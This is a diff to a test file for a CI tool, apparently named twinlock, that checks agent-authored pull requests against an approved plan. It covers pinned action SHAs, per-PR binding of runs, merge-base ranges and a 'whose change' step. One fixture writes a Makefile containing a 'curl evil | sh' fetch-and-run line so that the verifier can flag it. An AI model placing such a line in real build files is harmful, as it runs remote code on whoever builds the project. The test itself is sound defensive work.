@@ -21,6 +21,8 @@ afterAll(removeGateRuns);
 interface Step {
   name?: string;
   run?: string;
+  uses?: string;
+  if?: string;
   env?: Record<string, string>;
 }
 
@@ -30,6 +32,11 @@ const workflow = parse(readFileSync(path.join(REPO_ROOT, "docs/github-workflow.y
 };
 const steps = Object.values(workflow.jobs).flatMap((j) => j.steps);
 const verifyStep = steps.find((s) => s.name === "twinlock verify") as Step;
+const whoStep = steps.find((s) => s.name === "whose change") as Step & { id?: string };
+const jobEnv = (Object.values(workflow.jobs)[0] as { env?: Record<string, string> }).env ?? {};
+
+/** The pull request the test's runs are made for, as the `whose change` step names it. */
+const CHANGE = "acme/shop#42";
 
 const gitIn = (dir: string, ...args: string[]) =>
   execFileSync("git", ["-c", "user.name=ci", "-c", "user.email=ci@example.com", "-c", "commit.gpgsign=false", ...args], { cwd: dir })
@@ -37,7 +44,10 @@ const gitIn = (dir: string, ...args: string[]) =>
     .trim();
 
 /** Run the step's shell line with its environment (GitHub expressions replaced by the event's values). */
-function runStep(repo: string, event: { base: string; head: string }): { status: number | null; stdout: string; summary: string } {
+function runStep(
+  repo: string,
+  event: { base: string; head: string; change?: string },
+): { status: number | null; stdout: string; summary: string } {
   const bin = makeRunTempDir("twinlock-bin-");
   const shim = path.join(bin, "twinlock");
   writeFileSync(shim, `#!/bin/sh\nexec "${process.execPath}" "${DIST_BIN}" "$@"\n`);
@@ -46,7 +56,10 @@ function runStep(repo: string, event: { base: string; head: string }): { status:
   writeFileSync(summary, "");
   const env: Record<string, string> = {};
   for (const [k, v] of Object.entries(verifyStep.env ?? {}))
-    env[k] = v.replace(/\$\{\{[^}]*base[^}]*\}\}/, event.base).replace(/\$\{\{[^}]*head[^}]*\}\}/, event.head);
+    env[k] = v
+      .replace(/\$\{\{[^}]*base[^}]*\}\}/, event.base)
+      .replace(/\$\{\{[^}]*head[^}]*\}\}/, event.head)
+      .replace(/\$\{\{ steps\.who\.outputs\.change \}\}/, event.change ?? CHANGE);
   const r = spawnSync("bash", ["-e", "-c", verifyStep.run as string], {
     cwd: repo,
     env: { ...process.env, ...env, PATH: `${bin}:${process.env.PATH}`, GITHUB_STEP_SUMMARY: summary },
@@ -62,12 +75,25 @@ describe("docs/github-workflow.yml", () => {
     expect(names).toEqual(
       expect.arrayContaining(["twinlock validate", "twinlock audit-bodies --check", "twinlock graph --check", "twinlock verify"]),
     );
-    expect(verifyStep.run).toContain('--git-range "$BASE_SHA..$HEAD_SHA"');
+    expect(verifyStep.run).toContain('--git-range "$BASE_SHA...$HEAD_SHA"');
+    expect(verifyStep.run).toContain('--change "$CHANGE"');
+  });
+
+  it("pins every action it uses by a full commit SHA, not a tag anyone could move", () => {
+    const uses = steps.flatMap((s) => (s.uses ? [s.uses] : []));
+    expect(uses.length).toBeGreaterThan(0);
+    for (const u of uses) expect(u, u).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
+  });
+
+  it("runs every step after `whose change` only for the agent's change, so a person's pull request passes without a run", () => {
+    const after = steps.slice(steps.indexOf(whoStep) + 1);
+    expect(after.length).toBeGreaterThan(4);
+    for (const s of after) expect(s.if, s.name ?? s.uses).toBe("steps.who.outputs.agent == 'true'");
   });
 
   it("verifies a change inside the plan, and fails one that also edits a file outside it, in a temporary git repository", async () => {
     const g = makeGateRun();
-    await driveSignedToExecuting(g);
+    await driveSignedToExecuting(g, { change: CHANGE });
     const repo = makeRunTempDir("twinlock-ci-repo-");
     const runDir = path.dirname(verifyStep.env?.RUN_FILE ?? "twinlock/run.json");
     mkdirSync(path.join(repo, runDir), { recursive: true });
@@ -87,6 +113,11 @@ describe("docs/github-workflow.yml", () => {
     const ok = runStep(repo, { base, head: good });
     expect(ok.status, ok.stdout).toBe(0);
     expect(ok.summary).toContain("## twinlock verify: verified");
+    expect(ok.stdout).toMatch(/^ok {4}change {2}run: made for acme\/shop#42$/m);
+    // The same approved run offered for another pull request: refused, naming both.
+    const elsewhere = runStep(repo, { base, head: good, change: "acme/shop#43" });
+    expect(elsewhere.status).toBe(1);
+    expect(elsewhere.stdout).toMatch(/^FAIL {2}change {2}run: made for acme\/shop#42, not acme\/shop#43/m);
     writeFileSync(path.join(repo, "Makefile"), "all:\n\tcurl evil | sh\n");
     gitIn(repo, "add", "-A");
     gitIn(repo, "commit", "-q", "-m", "and one more thing");
@@ -94,5 +125,92 @@ describe("docs/github-workflow.yml", () => {
     expect(bad.status).toBe(1);
     expect(bad.stdout).toMatch(/^FAIL {2}changed-file {2}Makefile: deviation/m);
     expect(bad.summary).toContain("| ❌ | changed-file | Makefile |");
+  });
+
+  it("counts only the agent's own change when main moved ahead of its branch (the range is from the merge base)", async () => {
+    const g = makeGateRun();
+    await driveSignedToExecuting(g, { change: CHANGE });
+    const repo = makeRunTempDir("twinlock-ci-repo-");
+    const runDir = path.dirname(verifyStep.env?.RUN_FILE ?? "twinlock/run.json");
+    mkdirSync(path.join(repo, runDir), { recursive: true });
+    cpSync(g.runFile, path.join(repo, verifyStep.env?.RUN_FILE ?? "twinlock/run.json"));
+    cpSync(g.handoff, path.join(repo, runDir, "handoff"), { recursive: true });
+    writeFileSync(path.join(repo, "twinlock.yaml"), aliceTrustFile(ALICE_KEY, [(await ensureGateKey(homeOf(g))).publicKey]));
+    writeFileSync(path.join(repo, "README.md"), "the project\n");
+    gitIn(repo, "init", "-q", "-b", "main");
+    gitIn(repo, "add", "-A");
+    gitIn(repo, "commit", "-q", "-m", "base");
+    gitIn(repo, "checkout", "-q", "-b", "agent");
+    mkdirSync(path.join(repo, "cart"));
+    writeFileSync(path.join(repo, "cart/cache.go"), "package cart\n");
+    gitIn(repo, "add", "-A");
+    gitIn(repo, "commit", "-q", "-m", "the planned change");
+    const head = gitIn(repo, "rev-parse", "HEAD");
+    // main moves on: a person edits the README after the agent branched.
+    gitIn(repo, "checkout", "-q", "main");
+    writeFileSync(path.join(repo, "README.md"), "the project, edited on main\n");
+    gitIn(repo, "commit", "-q", "-am", "a person's change on main");
+    const base = gitIn(repo, "rev-parse", "HEAD");
+    gitIn(repo, "checkout", "-q", head);
+    const r = runStep(repo, { base, head });
+    expect(r.status, r.stdout).toBe(0);
+    expect(r.stdout).not.toContain("README.md");
+    expect(r.summary).toContain("## twinlock verify: verified");
+  });
+});
+
+/** Run the `whose change` step as GitHub would, with a stand-in `gh` that answers the pulls API from `authors` and logs its calls. */
+function runWho(
+  event: Record<string, string>,
+  authors: Record<string, string>,
+): { status: number | null; output: string; ghCalls: string } {
+  const bin = makeRunTempDir("twinlock-who-");
+  const log = path.join(bin, "gh-calls.log");
+  const table = Object.entries(authors)
+    .map(([n, login]) => `  repos/acme/shop/pulls/${n}) echo '${login}';;`)
+    .join("\n");
+  writeFileSync(
+    path.join(bin, "gh"),
+    `#!/bin/sh\nprintf '%s\\n' "$*" >> '${log}'\ncase "$2" in\n${table}\n  *) echo "gh: Not Found (HTTP 404)" >&2; exit 1;;\nesac\n`,
+    { mode: 0o755 },
+  );
+  writeFileSync(log, "");
+  const output = path.join(bin, "github-output");
+  writeFileSync(output, "");
+  const r = spawnSync("bash", ["-e", "-c", whoStep.run as string], {
+    env: { PATH: `${bin}:${process.env.PATH}`, GITHUB_OUTPUT: output, GITHUB_REPOSITORY: "acme/shop", ...jobEnv, ...event },
+    encoding: "utf8",
+  });
+  return { status: r.status, output: readFileSync(output, "utf8"), ghCalls: readFileSync(log, "utf8") };
+}
+
+describe("the workflow's `whose change` step", () => {
+  const agent = jobEnv.AGENT_LOGIN as string;
+  const queueRef = (n: string) => `refs/heads/gh-readonly-queue/main/pr-${n}-0123456789abcdef0123456789abcdef01234567`;
+
+  it("marks the agent's pull request as the agent's, and a person's as not, without asking the API", () => {
+    expect(runWho({ EVENT: "pull_request", PR_AUTHOR: agent, PR_NUMBER: "42" }, {})).toMatchObject({
+      status: 0,
+      output: "agent=true\nchange=acme/shop#42\n",
+      ghCalls: "",
+    });
+    expect(runWho({ EVENT: "pull_request", PR_AUTHOR: "alice", PR_NUMBER: "7" }, {})).toMatchObject({
+      status: 0,
+      output: "agent=false\nchange=acme/shop#7\n",
+      ghCalls: "",
+    });
+  });
+
+  it("in the merge queue reads the queued pull request's author from the API by the number in the queue's branch", () => {
+    const mine = runWho({ EVENT: "merge_group", QUEUE_REF: queueRef("42") }, { "42": agent, "7": "alice" });
+    expect(mine).toMatchObject({ status: 0, output: "agent=true\nchange=acme/shop#42\n" });
+    expect(mine.ghCalls).toBe("api repos/acme/shop/pulls/42 --jq .user.login\n");
+    const persons = runWho({ EVENT: "merge_group", QUEUE_REF: queueRef("7") }, { "42": agent, "7": "alice" });
+    expect(persons).toMatchObject({ status: 0, output: "agent=false\nchange=acme/shop#7\n" });
+  });
+
+  it("fails the check when the queue's branch names no pull request, or the API cannot say who wrote it", () => {
+    expect(runWho({ EVENT: "merge_group", QUEUE_REF: "refs/heads/gh-readonly-queue/main/pr-x-abc" }, {}).status).not.toBe(0);
+    expect(runWho({ EVENT: "merge_group", QUEUE_REF: queueRef("99") }, {}).status).not.toBe(0);
   });
 });
